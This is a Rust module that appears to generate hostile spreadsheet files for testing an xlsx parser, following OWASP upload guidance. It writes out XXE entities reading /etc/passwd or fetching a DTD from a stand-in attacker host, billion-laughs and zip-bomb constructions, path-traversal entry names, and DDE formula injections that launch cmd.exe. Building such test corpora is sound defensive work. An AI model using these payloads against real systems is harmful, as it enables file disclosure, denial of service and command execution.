//! Spreadsheets and office documents that were made to break their reader, after OWASP's list for uploads.

use super::pack::{Dice, End, Part, pack, part};

/// A class of files: its name, and what makes one.
pub(super) type Class = (&'static str, fn(&mut Dice) -> Vec<u8>);

pub(super) const CLASSES: &[Class] = &[
    ("names that lead elsewhere", |dice| with_more(dice, |dice, name| part(&name, dice.bytes(20)))),
    ("links", |dice| {
        with_more(dice, |dice, name| Part {
            mode: *dice.pick(&[0o120_777, 0o010_777, 0o060_777]),
            ..part(&name, "/etc/passwd")
        })
    }),
    ("the same name again", same_name),
    ("entries that share their bytes", overlapping),
    ("archives in archives", nested),
    ("large archives that lie", large),
    ("heads that lie", heads),
    ("parts that unpack without end", unpacking),
    ("entities from outside", |dice| declared(dice, "<!ENTITY a SYSTEM \"file:///etc/passwd\">", "&a;")),
    ("entities from the network", |dice| {
        declared(dice, "<!ENTITY % a SYSTEM \"http://angreifer.example/a.dtd\"> %a;", "x")
    }),
    ("a billion laughs", laughs),
    ("one long entity, often", |dice| {
        let long = format!("<!ENTITY a \"{}\">", "a".repeat(dice.size(1_000_000)));
        let often = "&a;".repeat(dice.size(100_000));
        declared(dice, &long, &often)
    }),
    ("relations to elsewhere", relations),
    ("macros", macros),
    ("cells that compute", computing),
    ("one long text in every cell", long_text),
    ("shared texts within shared texts", |dice| {
        let (depth, text) = (dice.size(100_000), "x".repeat(dice.size(1_000_000)));
        words(&format!("{}<t>{text}</t>{}", "<si>".repeat(depth), "</si>".repeat(depth)))
    }),
    ("texts within texts", |dice| {
        let depth = dice.size(200_000);
        words(&format!("<si>{}{}</si>", "<t>a".repeat(depth), "</t>".repeat(depth)))
    }),
    ("spoken words, deep", |dice| {
        let depth = dice.size(100_000);
        let texts = "<t>a</t>".repeat(dice.size(100_000));
        words(&format!("<si>{}{texts}{}</si>", "<rPh>".repeat(depth), "</rPh>".repeat(depth)))
    }),
    ("rows within rows", |dice| {
        let depth = dice.size(5_000);
        sheet(&format!("{}{}", "<row><c><v>1</v></c>".repeat(depth), "</row>".repeat(depth)))
    }),
    ("elements, deep", |dice| {
        let depth = dice.size(1_000_000);
        sheet(&format!("{}{}", "<a>".repeat(depth), "</a>".repeat(depth)))
    }),
    ("elements, many", |dice| sheet(&"<a/>".repeat(dice.size(3_900_000)))),
    ("attributes, many of one", |dice| {
        let many: String = (0..dice.size(400_000)).map(|at| format!(" a{at:x}=\"\"")).collect();
        sheet(&format!("<row{many}/>"))
    }),
    ("attributes, many of many", |dice| sheet(&"<a b=\"\" c=\"\" d=\"\" e=\"\"/>".repeat(dice.size(600_000)))),
    ("namespaces, many", |dice| {
        let many: String = (0..dice.size(300_000)).map(|at| format!(" xmlns:a{at:x}=\"u{at:x}\"")).collect();
        sheet(&format!("<row{many}/>"))
    }),
    ("namespaces, one in each", |dice| {
        let depth = dice.size(50_000);
        let open: String = (0..depth).map(|at| format!("<a xmlns:a{at:x}=\"u{at:x}\">")).collect();
        sheet(&(open + &"</a>".repeat(depth)))
    }),
    ("places that lie", places),
    ("formats that lie", formats),
    ("formats, many of both", |dice| {
        let many = dice.size(100_000);
        let own: String = (0..many).map(|at| format!("<numFmt numFmtId=\"{at:x}\" formatCode=\"m.yy\"/>")).collect();
        let cells = format!("<xf numFmtId=\"{:x}\"/>", many - 1).repeat(dice.size(100_000));
        let text = format!("<styleSheet><numFmts>{own}</numFmts><cellXfs>{cells}</cellXfs></styleSheet>");
        book(&[part("xl/styles.xml", text)])
    }),
    ("comments and instructions", |dice| sheet(&"<!-- a --><?a b?>".repeat(dice.size(900_000)))),
    ("character references", |dice| {
        let often = dice.size(2_000_000);
        words(&format!("<si><t>{}</t></si>", "&#65;".repeat(often)))
    }),
    ("bytes out of place", |dice| {
        let mut whole = book(&[]);
        for _ in 0..dice.size(64) {
            let at = dice.below(whole.len());
            whole[at] = dice.below(256) as u8;
        }
        whole
    }),
    ("broken off", |dice| {
        let whole = book(&[]);
        whole[..dice.below(whole.len())].to_vec()
    }),
];

const TYPES: &str = r#"<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#;
const WORKBOOK: &str = r#"<workbook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" r:id="r1"/></sheets></workbook>"#;
const LINKS: &str = r#"<Relationships><Relationship Id="r1" Target="worksheets/a.xml"/></Relationships>"#;
const ROWS: &str = r#"<worksheet><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1"><v>2</v></c><c r="C1" s="1"><v>46144</v></c></row></sheetData></worksheet>"#;
const STYLES: &str = r#"<styleSheet><cellXfs><xf numFmtId="0"/><xf numFmtId="16"/></cellXfs></styleSheet>"#;
const WORDS: &str = "<sst><si><t>Beispiel</t></si></sst>";

/// A book that is whole, with parts in place of its own.
pub(super) fn book(others: &[Part]) -> Vec<u8> {
    pack(&parts(others), &End::default())
}

fn parts(others: &[Part]) -> Vec<Part> {
    let own = [
        ("[Content_Types].xml", TYPES),
        ("xl/workbook.xml", WORKBOOK),
        ("xl/_rels/workbook.xml.rels", LINKS),
        ("xl/worksheets/a.xml", ROWS),
        ("xl/sharedStrings.xml", WORDS),
        ("xl/styles.xml", STYLES),
    ];
    let own = own.map(|(name, text)| part(name, text)).into_iter();
    let mut all: Vec<Part> = own.filter(|own| others.iter().all(|other| other.name != own.name)).collect();
    all.extend(others.iter().cloned());
    all
}

fn sheet(content: &str) -> Vec<u8> {
    let text = format!("<worksheet><sheetData>{content}</sheetData></worksheet>");
    book(&[part("xl/worksheets/a.xml", text)])
}

fn words(content: &str) -> Vec<u8> {
    book(&[part("xl/sharedStrings.xml", format!("<sst>{content}</sst>"))])
}

/// Names that leave the folder they belong to, for archives and uploads alike.
pub(super) const LEADING: &[&str] = &[
    "../../../../etc/cron.d/a",
    "/etc/passwd",
    "..\\..\\windows\\system32\\a.dll",
    "C:\\a.exe",
    "\\\\angreifer.example\\a",
    "a/../../b",
    "./././a",
    "xl/../../../a",
    "%2e%2e%2fa",
    "..;/a",
    "\u{ff0e}\u{ff0e}/a",
    "a\0.xlsx",
    "CON",
    "a:b",
    "\u{202e}xslx.exe",
    "",
];

fn with_more(dice: &mut Dice, one: fn(&mut Dice, String) -> Part) -> Vec<u8> {
    let many = dice.size(300);
    let more = (0..many).map(|at| {
        let name = (*dice.pick(LEADING)).to_owned() + &"x".repeat(at % 7);
        one(dice, name)
    });
    book(&more.collect::<Vec<_>>())
}

fn same_name(dice: &mut Dice) -> Vec<u8> {
    let names = ["xl/workbook.xml", "xl/worksheets/a.xml", "xl/sharedStrings.xml"];
    let again = (0..dice.size(2_000)).map(|at| part(dice.pick::<&str>(&names), format!("<a>{at}</a>")));
    let again: Vec<Part> = again.collect();
    pack(&[parts(&[]), again].concat(), &End::default())
}

/// All entries point to the same packed zeros.
fn overlapping(dice: &mut Dice) -> Vec<u8> {
    let zeros = part("xl/sharedStrings.xml", vec![b' '; dice.size(1_000_000)]);
    let ghosts =
        (0..dice.size(9_000)).map(|at| Part { name: format!("xl/a{at}").into(), at: Some(0), ..zeros.clone() });
    let named = ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/worksheets/a.xml"];
    let named = named.map(|name| Part { name: name.into(), at: Some(0), ..zeros.clone() });
    // Their own bytes are never packed again: only the first entry has any.
    let empty = |part: Part| Part { bytes: Vec::new(), size: Some(zeros.bytes.len() as u32), ..part };
    pack(
        &[zeros.clone()].into_iter().chain(named.into_iter().chain(ghosts).map(empty)).collect::<Vec<_>>(),
        &End::default(),
    )
}

fn nested(dice: &mut Dice) -> Vec<u8> {
    let mut inner = vec![b' '; dice.size(8_000_000)];
    for depth in 0..dice.size(12) {
        let twins = (0..3).map(|at| part(&format!("{depth}-{at}.zip"), inner.clone()));
        inner = pack(&twins.collect::<Vec<_>>(), &End::default());
        inner.truncate(1_000_000);
    }
    book(&[part("xl/embeddings/a.xlsx", inner)])
}

fn large(dice: &mut Dice) -> Vec<u8> {
    let far = [0, 1, 46, 0xffff, 0xffff_ffff, u64::MAX / 2, u64::MAX - 1, u64::MAX];
    let large = [0; 4].map(|_: u64| *dice.pick(&far));
    let all = u32::MAX.to_le_bytes();
    let mut parts = parts(&[]);
    let liar = dice.below(parts.len());
    parts[liar].size = Some(u32::MAX);
    parts[liar].extra = [&[1, 0, 28, 0], dice.pick(&far).to_le_bytes().repeat(3).as_slice(), &all].concat();
    pack(&parts, &End { count: Some(0xffff), directory: Some(u32::MAX), large: Some(large), ..End::default() })
}

fn heads(dice: &mut Dice) -> Vec<u8> {
    let mut parts = parts(&[]);
    for part in &mut parts {
        match dice.below(7) {
            0 => part.size = Some(dice.below(1 << 32) as u32),
            1 => part.sum = Some(dice.below(1 << 32) as u32),
            2 => part.method = Some(*dice.pick(&[0, 1, 9, 12, 14, 93, 95, 99])),
            3 => part.flags = *dice.pick(&[1, 8, 1 << 6, 1 << 13, 0xffff]),
            4 => part.at = Some(*dice.pick(&[1, 0x7fff_ffff, u32::MAX - 1])),
            5 => part.name = dice.bytes(40),
            _ => {}
        }
    }
    let end = End {
        count: Some(dice.below(1 << 16) as u16).filter(|count| count % 2 == 0),
        directory: Some(dice.below(4_000) as u32).filter(|at| at % 2 == 0),
        comment: b"PK\x05\x06".repeat(dice.size(1_000)),
        ..End::default()
    };
    pack(&parts, &end)
}

fn unpacking(dice: &mut Dice) -> Vec<u8> {
    let names = ["xl/workbook.xml", "xl/worksheets/a.xml", "xl/sharedStrings.xml", "xl/styles.xml"];
    let name = dice.pick(&names);
    let zeros = vec![*dice.pick(b" \0<"); dice.size(120_000_000)];
    // It also says that it is small.
    let size = Some(100).filter(|_| dice.below(2) == 0);
    book(&[Part { size, ..part(name, zeros) }])
}

fn declared(dice: &mut Dice, entity: &str, used: &str) -> Vec<u8> {
    let doctype = format!("<!DOCTYPE a [{entity}]>");
    match dice.below(3) {
        0 => book(&[part("xl/workbook.xml", format!("{doctype}{WORKBOOK}"))]),
        1 => book(&[part(
            "xl/worksheets/a.xml",
            format!("{doctype}<worksheet><row><c><v>{used}</v></c></row></worksheet>"),
        )]),
        _ => book(&[part("xl/sharedStrings.xml", format!("{doctype}<sst><si><t>{used}</t></si></sst>"))]),
    }
}

fn laughs(dice: &mut Dice) -> Vec<u8> {
    let (levels, width) = (1 + dice.size(10), 1 + dice.size(10));
    let levels = (1..levels).map(|at| format!("<!ENTITY a{at} \"{}\">", format!("&a{};", at - 1).repeat(width)));
    let last = levels.len();
    let entities: String = std::iter::once("<!ENTITY a0 \"haha\">".to_owned()).chain(levels).collect();
    declared(dice, &entities, &format!("&a{last};"))
}

fn relations(dice: &mut Dice) -> Vec<u8> {
    let targets = [
        "http://angreifer.example/a.xml",
        "file:///etc/passwd",
        "\\\\angreifer.example\\a",
        "../../../../etc/passwd",
        "/../../etc/passwd",
        "/",
        "",
        "workbook.xml",
        "_rels/workbook.xml.rels",
    ];
    let mode = dice.pick(&["", " TargetMode=\"External\""]);
    let links =
        format!("<Relationships><Relationship Id=\"r1\" Target=\"{}\"{mode}/></Relationships>", dice.pick(&targets));
    book(&[part("xl/_rels/workbook.xml.rels", links)])
}

fn macros(dice: &mut Dice) -> Vec<u8> {
    let folder = dice.pick(&["xl/", "word/", "", "XL/", "a/b/c/"]);
    let name = dice.pick(&["vbaProject.bin", "VBAPROJECT.BIN", "VbaProject.Bin", "vbaproject.bin"]);
    let main = if dice.below(2) == 0 { "word/document.xml" } else { "xl/workbook.xml" };
    let program = dice.bytes(60);
    book(&[part(&format!("{folder}{name}"), program), part(main, WORKBOOK)])
}

fn computing(dice: &mut Dice) -> Vec<u8> {
    let formula = dice.pick(&[
        "=cmd|'/c calc'!A0",
        "=HYPERLINK(&quot;http://angreifer.example&quot;)",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!D2",
    ]);
    let cell = format!("<c t=\"str\"><f>{formula}</f><v>{formula}</v></c>");
    sheet(&format!("<row>{}</row>", cell.repeat(dice.size(40))))
}

/// One shared text, named by as many cells as a part may have elements: with more the parser refuses it before.
fn long_text(dice: &mut Dice) -> Vec<u8> {
    let text = "x".repeat(dice.size(15_000_000));
    let rows = format!("<row>{}</row>", "<c t=\"s\"><v>0</v></c>".repeat(64)).repeat(dice.size(2_000));
    book(&[
        part("xl/sharedStrings.xml", format!("<sst><si><t>{text}</t></si></sst>")),
        part("xl/worksheets/a.xml", format!("<worksheet><sheetData>{rows}</sheetData></worksheet>")),
    ])
}

fn places(dice: &mut Dice) -> Vec<u8> {
    let rows = ["0", "-1", "1", "9999", "10000", "10001", "4294967296", "18446744073709551616", "1e9", "\u{661}"];
    let cells = ["A1", "BL1", "ZZZZ1", "a1", "1", "", "XFD1048576", "AAAAAAAAAAAAAAAAAAAAAAAAAAAA1", "Ä1"];
    let row = (0..dice.size(9_000)).map(|at| {
        let number = if at % 3 == 0 { (at + 1).to_string() } else { (*dice.pick(&rows)).to_owned() };
        format!("<row r=\"{number}\"><c r=\"{}\"><v>1</v></c></row>", dice.pick(&cells))
    });
    let rows: Vec<String> = row.collect();
    let from = dice.below(rows.len());
    sheet(&rows[from..].concat())
}

fn formats(dice: &mut Dice) -> Vec<u8> {
    let code = dice.pick(&["d.m", "m.yy", "\"", "[", "d.m.yyyy", ""]);
    let numbers = ["1e308", "-1e308", "NaN", "inf", "61", "2958465.9", "0x10", "9".repeat(400).leak(), "46144", "-0"];
    let code = code.repeat(dice.size(100_000));
    let styles = format!(
        "<styleSheet><numFmts><numFmt numFmtId=\"170\" formatCode=\"{}\"/></numFmts><cellXfs>{}</cellXfs></styleSheet>",
        code.replace('"', "&quot;"),
        "<xf numFmtId=\"170\"/>".repeat(dice.size(100_000))
    );
    let cells: String =
        numbers.iter().map(|number| format!("<c s=\"{}\"><v>{number}</v></c>", dice.below(200_000))).collect();
    book(&[
        part("xl/styles.xml", styles),
        part("xl/worksheets/a.xml", format!("<worksheet><row>{cells}</row></worksheet>")),
    ])
}
